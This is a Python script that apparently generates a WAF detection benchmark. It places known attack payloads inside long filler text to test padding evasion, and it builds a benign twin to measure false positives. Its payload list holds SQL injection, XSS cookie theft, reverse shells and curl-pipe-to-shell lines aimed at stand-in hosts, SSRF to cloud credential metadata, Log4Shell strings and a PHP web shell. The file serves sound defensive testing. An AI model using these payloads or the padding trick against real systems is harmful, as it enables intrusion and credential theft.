"""Build a corpus of attacks hidden behind long harmless text (padding evasion), and its benign twin.

    python bench/padding_corpus.py [--out /tmp/padding.jsonl.gz] [--seed 1]
    extauthz eval /tmp/padding.jsonl.gz --split dev -j 2 --errors /tmp/padding-err.jsonl
    extauthz eval /tmp/padding.jsonl.gz --config big-budget.yaml ...   # without the detector budget

Why: a WAF reads a bounded amount of each value. Whatever lies past what it
reads is not inspected, so the oldest evasion there is, "put 8 KiB of filler
in front of the payload", defeats WAFs that read only a head (AWS WAF's and
Azure's body inspection limits, ModSecurity rules that stop at
`SecRequestBodyLimit` with ProcessPartial). The shared corpora have no value
over a few KiB, so they cannot see it.

Every attack payload here is one our engine blocks when sent alone. Each is
placed in a long value of ordinary text at the start, the middle or the end,
in a JSON member and a form field. Fillers: English prose, prose with
apostrophes and quoted words (where SQL quote contexts flip), markdown with
code, CSV numbers, a dense list of one-character tokens, runs of blanks and line breaks, and rich-text HTML
paragraphs. Sizes: 3, 9, 20 and 60 KiB, which cross the readers' own
limits (a tokenizer's characters or tokens, the collector's value size).

The benign twin: the same fillers, with no payload, in the same places, so
the false positives of reading long text are measured beside the detection.
With the default `limits.detect_budget_ms` (10 ms) long fillers cost more than
the budget and are denied (limit.detect-time): fail-closed, counted as false
positives here; run with a large budget to see the readings' own verdicts.

Ids are `pad:<payload>.<salt>:...`; the split (extauthz.corpus.in_split)
is made by payload, so every placement of a hold-out payload stays unseen.
Benign ids are `padb:<filler>:<size>:<carrier>.<salt>`.
"""
from __future__ import annotations

import argparse
import gzip
import json
import random
import sys
import urllib.parse
import zlib
from pathlib import Path
from typing import Callable

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from extauthz.corpus import in_split  # noqa: E402

HOST = ["Host", "app.example.com"]
UA = ["User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"]

# (category, payload): each blocked by the engine when sent alone (checked by --check).
PAYLOADS: list[tuple[str, str]] = [
    ("sqli", "' union select username, password from users--"),
    ("sqli", "1' or '1'='1"),
    ("sqli", "x' AND 1=(SELECT COUNT(*) FROM tabname); --"),
    ("sqli", "'; DROP TABLE orders; --"),
    ("sqli", "1 AND SLEEP(5)#"),
    ("sqli", "admin'--"),
    ("sqli", "') OR ('a'='a"),
    ("sqli", "1; EXEC xp_cmdshell('dir')--"),
    ("sqli", "' AND extractvalue(1,concat(0x7e,(select version())))-- -"),
    ("sqli", "1 UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables#"),
    ("xss", "<script>alert(document.cookie)</script>"),
    ("xss", "<img src=x onerror=alert(1)>"),
    ("xss", "\"><svg/onload=confirm(1)>"),
    ("xss", "<iframe src=\"javascript:alert(document.domain)\"></iframe>"),
    ("xss", "<a href=\"javascript:fetch('//evil.example/'+document.cookie)\">x</a>"),
    ("xss", "<body onload=eval(atob('YWxlcnQoMSk='))>"),
    ("xss", "'-alert(1)-'"),
    ("xss", "<details open ontoggle=alert(1)>"),
    ("rce", "; cat /etc/passwd"),
    ("rce", "$(curl http://evil.example/x.sh | sh)"),
    ("rce", "| nc -e /bin/sh 203.0.113.9 4444"),
    ("rce", "`wget http://evil.example/a -O /tmp/a`"),
    ("rce", "&& bash -i >& /dev/tcp/203.0.113.9/8080 0>&1"),
    ("rce", "; powershell -enc SQBFAFgA"),
    ("lfi", "../../../../etc/passwd"),
    ("lfi", "..\\..\\..\\windows\\win.ini"),
    ("lfi", "php://filter/convert.base64-encode/resource=index.php"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("ssrf", "gopher://127.0.0.1:6379/_FLUSHALL"),
    ("ssti", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
    ("ssti", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("log4shell", "${jndi:ldap://evil.example/a}"),
    ("log4shell", "${${lower:j}ndi:${lower:r}mi://evil.example/x}"),
    ("other", "<?php system($_GET['c']); ?>"),
    ("other", "<!--#exec cmd=\"/bin/cat /etc/passwd\" -->"),
    ("ldapi", "*)(uid=*))(|(uid=*"),
]

WORDS = ("the of and to in is that for it as was with be by on not he this are or his from at which but have an "
         "they you were their one all we can her has there been if more when will would who so no time people "
         "year service order customer delivery invoice account report team project update release version "
         "feature support question answer example system data table page note review plan meeting summary "
         "price product review shipping address payment message comment document section chapter draft").split()
SIZES = (3 * 1024, 9 * 1024, 20 * 1024, 60 * 1024)
POSITIONS = ("start", "middle", "end")


def _sentence(rng: random.Random, quotes: bool) -> str:
    words = [rng.choice(WORDS) for _ in range(rng.randint(6, 18))]
    if quotes:
        k = rng.randrange(len(words))
        words[k] = rng.choice(("don't", "it's", "customer's", "we'll", "O'Brien's", f'"{words[k]}"', f"'{words[k]}'"))
    s = " ".join(words)
    return s[0].upper() + s[1:] + rng.choice((".", ".", ".", "?", "!", ";", ","))


def _blocks(n: int, sep: str, block: Callable[[], str]) -> str:
    """Blocks made by `block()` joined by `sep`, cut to n characters."""
    out: list[str] = []
    size = 0
    while size < n:
        b = block()
        out.append(b)
        size += len(b) + len(sep)
    return sep.join(out)[:n]


def _prose(rng: random.Random, n: int, quotes: bool = False) -> str:
    return _blocks(n, "\n\n", lambda: " ".join(_sentence(rng, quotes) for _ in range(rng.randint(2, 6))))


def _markdown_block(rng: random.Random) -> str:
    kind = rng.randrange(4)
    if kind == 0:
        return "## " + " ".join(rng.choice(WORDS) for _ in range(4)).title()
    if kind == 1:
        return "- " + _sentence(rng, True) + "\n- " + _sentence(rng, False)
    if kind == 2:
        return f"Set `{rng.choice(WORDS)}_{rng.choice(WORDS)}` to `{rng.randint(1, 500)}` in the config file."
    return _sentence(rng, True) + " " + _sentence(rng, False)


def _markdown(rng: random.Random, n: int) -> str:
    return _blocks(n, "\n\n", lambda: _markdown_block(rng))


def _csv(rng: random.Random, n: int) -> str:
    return _blocks(n, "\n", lambda: ",".join(str(rng.randint(0, 99999)) for _ in range(8)))


def _blanks(rng: random.Random, n: int) -> str:
    return "".join(rng.choice("    \n\t") for _ in range(n))


def _dense(rng: random.Random, n: int) -> str:
    """One-character tokens: a list of letters and digits (`a,7,c,...`), the most tokens per KiB."""
    return ",".join(rng.choice("abcdefgh0123456789") for _ in range(n // 2 + 1))[:n]


def _html_block(rng: random.Random) -> str:
    tag = rng.choice(("p", "p", "li", "h3", "blockquote"))
    inner = _sentence(rng, False)
    if rng.random() < 0.3:
        inner = inner.replace(" ", " <b>", 1) + "</b>"
    return f"<{tag}>{inner}</{tag}>"


def _html(rng: random.Random, n: int) -> str:
    return _blocks(n, "\n", lambda: _html_block(rng))


FILLERS = {
    "prose": lambda rng, n: _prose(rng, n),
    "prose-quotes": lambda rng, n: _prose(rng, n, quotes=True),
    "markdown": _markdown,
    "csv": _csv,
    "dense": _dense,
    "blanks": _blanks,
    "html": _html,
}


def _cut_at_blank(text: str, at: int) -> int:
    """A position near `at` just after a blank, so the payload is not glued into a word."""
    j = text.rfind(" ", max(0, at - 40), at)
    return j + 1 if j >= 0 else at


def _place(filler: str, payload: str, position: str) -> str:
    if position == "start":
        return payload + " " + filler
    if position == "end":
        return filler + " " + payload
    k = _cut_at_blank(filler, len(filler) // 2)
    return filler[:k] + payload + " " + filler[k:]


def _record(rid: str, label: str, category: str, carrier: str, value: str) -> dict:
    if carrier == "json":
        body = json.dumps({"title": "Weekly notes", "body": value}, ensure_ascii=False)
        ctype = "application/json"
    else:
        body = urllib.parse.urlencode({"title": "Weekly notes", "body": value})
        ctype = "application/x-www-form-urlencoded"
    return {"id": rid, "source": "padding", "label": label, "category": category, "method": "POST",
            "uri": "/api/notes", "headers": [HOST, UA, ["Content-Type", ctype]], "body": body,
            "placement": f"{carrier}:body"}


def _salted(base: str, side: str) -> str:
    """`base` with the first salt that puts the id on `side` of in_split."""
    for salt in range(1000):
        rid = f"{base}.{salt}"
        if in_split(rid, side):
            return rid
    raise RuntimeError("no salt found")  # pragma: no cover (1 in 5 ids is holdout)


def build(seed: int) -> list[dict]:
    rng = random.Random(seed)
    fillers = {(name, size): make(random.Random(f"{seed}:{name}:{size}"), size)
               for name, make in FILLERS.items() for size in SIZES}
    records: list[dict] = []
    for k, (category, payload) in enumerate(PAYLOADS):
        side = "holdout" if zlib.crc32(f"{seed}:{payload}".encode()) % 5 == 0 else "dev"
        for (name, size), filler in fillers.items():
            for position in POSITIONS:
                for carrier in ("json", "form"):
                    rid = _salted(f"pad:{k}:{name}:{size // 1024}k:{position}:{carrier}", side)
                    records.append(_record(rid, "attack", category, carrier, _place(filler, payload, position)))
    for (name, size), filler in fillers.items():
        for carrier in ("json", "form"):
            rid = f"padb:{name}:{size // 1024}k:{carrier}"
            records.append(_record(rid, "benign", "benign", carrier, filler))
    rng.shuffle(records)
    return records


def payloads_from(paths: list[str], per_category: int, seed: int) -> list[tuple[str, str, str]]:
    """(record id, category, value) of attack records in `paths` that the engine blocks alone: the
    value is that of the Input its first HIGH or CRITICAL finding is at, as decoded (at most
    512 characters: the windows' overlap, see extauthz.detect.pipeline), up to `per_category`
    records of a category from each file, chosen at random."""
    from extauthz.config import Config
    from extauthz.corpus import read_corpus
    from extauthz.decode import extract
    from extauthz.engine import Engine
    from extauthz.finding import Severity, Source
    config = Config()
    engine = Engine(config)
    found: dict[tuple[str, str], list[tuple[str, str, str]]] = {}
    for path in paths:
        for rec in read_corpus(path):
            if rec.label != "attack":
                continue
            verdict = engine.check(rec.request)
            if verdict.decision.value != "deny":
                continue
            high = next((f for f in verdict.findings if f.severity >= Severity.HIGH and f.source is Source.DETECTOR), None)
            if high is None:
                continue
            inputs = extract(rec.request, config.limits, config.defaults.body_limit).inputs
            value = next((i.value for i in inputs if i.location == high.location), "")
            if 0 < len(value) <= 512 and "\x00" not in value:
                found.setdefault((path, rec.category), []).append((rec.id, rec.category, value))
    rng = random.Random(seed)
    out = []
    for key in sorted(found):
        got = found[key]
        out.extend(rng.sample(got, min(per_category, len(got))))
    return out


def build_from(payloads: list[tuple[str, str, str]], seed: int) -> list[dict]:
    """Each payload in the middle and at the end of 3 and 9 KiB of prose, prose with quotes,
    markdown, HTML and CSV, in a JSON member; a payload's records are on its source record's
    side of the split (extauthz.corpus.in_split)."""
    fillers = {(name, size): FILLERS[name](random.Random(f"{seed}:{name}:{size}"), size)
               for name in ("prose", "prose-quotes", "markdown", "html", "csv") for size in SIZES[:2]}
    records: list[dict] = []
    for source_id, category, payload in payloads:
        side = "holdout" if in_split(source_id, "holdout") else "dev"
        for (name, size), filler in fillers.items():
            for position in ("middle", "end"):
                rid = _salted(f"padx:{source_id}:{name}:{size // 1024}k:{position}", side)
                records.append(_record(rid, "attack", category, "json", _place(filler, payload, position)))
    random.Random(seed).shuffle(records)
    return records


def _check_alone() -> list[str]:
    """The payloads the engine does not block when sent alone (those would measure nothing)."""
    from extauthz.config import Config
    from extauthz.corpus import request_from_record
    from extauthz.engine import Engine
    engine = Engine(Config())
    missed = []
    for carrier in ("json", "form"):
        for category, payload in PAYLOADS:
            r = request_from_record(_record("check", "attack", category, carrier, payload))
            if engine.check(r).decision.value != "deny":
                missed.append(f"{carrier}: {payload}")
    return missed


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--out", default="/tmp/padding.jsonl.gz")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--check", action="store_true", help="only list the payloads not blocked when sent alone")
    ap.add_argument("--from", dest="sources", action="append", default=[], metavar="CORPUS",
                    help="instead of the built-in payloads: attack values of this corpus that are blocked alone "
                         "(repeatable), hidden in long text")
    ap.add_argument("--per-category", type=int, default=150, help="with --from: values taken per category")
    args = ap.parse_args()
    if args.check and not args.sources:
        missed = _check_alone()
        print("\n".join(missed) if missed else f"all {len(PAYLOADS)} payloads are blocked alone (json and form)")
        return 1 if missed else 0
    if args.sources:
        records = build_from(payloads_from(args.sources, args.per_category, args.seed), args.seed)
        what = f"attack requests from {', '.join(args.sources)}"
    else:
        records = build(args.seed)
        attacks = sum(r["label"] == "attack" for r in records)
        what = f"requests ({attacks} attack, {len(records) - attacks} benign)"
    with gzip.open(args.out, "wt", encoding="utf-8") as f:
        for r in records:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    print(f"{args.out}: {len(records)} {what}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
